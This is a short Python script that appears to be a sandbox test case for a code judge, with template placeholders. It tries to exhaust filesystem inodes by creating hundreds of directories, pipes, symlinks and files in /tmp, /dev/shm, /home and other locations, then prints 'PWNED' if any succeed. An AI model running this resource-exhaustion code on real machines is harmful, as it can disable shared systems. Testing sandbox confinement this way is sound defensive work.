# Tries: to use up the file system's inodes with small files, folders, links and pipes.
# Must get: AC, for it answers honestly afterwards.
import os

made = 0
for place in (".", "/tmp", "/var/tmp", "/dev/shm", "/dev", "/run/lock", "/home", "@TMP@", os.environ.get("HOME", "/")):
    for make in (os.mkdir, os.mkfifo, lambda path: os.symlink("x", path), lambda path: open(path, "x").close()):
        try:
            for number in range(500):
                make(f"{place}/@MARK@-{number}-{made}")
                made += 1
        except OSError:
            pass
if made:
    print("PWNED made", made)
# @ANSWER@
